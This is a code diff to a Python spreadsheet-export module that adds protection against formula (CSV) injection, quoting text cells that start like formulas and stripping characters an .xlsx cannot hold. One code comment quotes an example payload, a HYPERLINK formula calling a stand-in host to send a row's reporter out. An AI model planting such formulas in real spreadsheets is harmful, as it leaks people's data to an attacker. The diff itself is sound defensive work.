@@ -11,6 +11,7 @@ which streams rows to disk and keeps a large ledger out of memory).
 from __future__ import annotations
 
 import io
+import re
 from collections.abc import Iterable, Sequence
 from dataclasses import dataclass
 from datetime import datetime
@@ -90,19 +91,46 @@ def _register_styles(wb: Workbook) -> None:
                                       alignment=_HEADER_ALIGN, border=_BORDER))
 
 
+# What Excel and WPS take for the start of a formula in a cell typed in, or in a CSV saved from
+# the sheet (OWASP, “CSV injection”): `=HYPERLINK("http://evil.example/?"&F2,"详情")` in a title
+# would send the row's reporter to whoever wrote it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# What an .xlsx cannot hold (XML 1.0 refuses it; openpyxl raises IllegalCharacterError): control
+# characters but tab, line feed and carriage return, lone surrogates, U+FFFE and U+FFFF.
+NOT_IN_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
+
+
+def text_cell(ws: Any, value: Any) -> WriteOnlyCell:
+    """A cell of `ws` holding `value`; a text is always a text: what an .xlsx cannot hold is
+    left out, and one that starts like a formula is stored as a string with Excel's own
+    apostrophe mark (quotePrefix), so neither Excel nor WPS ever evaluates it, also once the
+    cell is edited; its text is kept as it was, so the ledger import reads back what it wrote."""
+    if not isinstance(value, str):
+        return WriteOnlyCell(ws, value=value)
+    value = NOT_IN_XLSX.sub("", value)
+    cell = WriteOnlyCell(ws, value=value)
+    cell.data_type = "s"
+    if value.startswith(FORMULA_STARTS):
+        cell.quotePrefix = True
+    return cell
+
+
 def _cell(ws: Any, column: Column, value: Any) -> WriteOnlyCell:
     kind = column.kind
     if isinstance(value, datetime):
         value = excel_datetime(value)
         if kind == "date":
             value = value.date()
-    cell = WriteOnlyCell(ws, value=value)
+    cell = text_cell(ws, value)
+    quoted = cell.quotePrefix
     cell.style = _DATA_STYLES[kind][0]
+    if quoted:
+        cell.quotePrefix = True   # the named style set just now carries no quote mark
     return cell
 
 
 def _styled(ws: Any, value: Any, font: Font, alignment: Alignment) -> WriteOnlyCell:
-    cell = WriteOnlyCell(ws, value=value)
+    cell = text_cell(ws, value)
     cell.font = font
     cell.alignment = alignment
     return cell
@@ -150,7 +178,7 @@ def write_table(ws: Any, columns: Sequence[Column], rows: Iterable[Sequence[Any]
     _register_styles(ws.parent)
     header = []
     for c in columns:
-        cell = WriteOnlyCell(ws, value=c.title)
+        cell = text_cell(ws, c.title)
         cell.style = _HEADER_STYLE
         header.append(cell)
     ws.append(header)
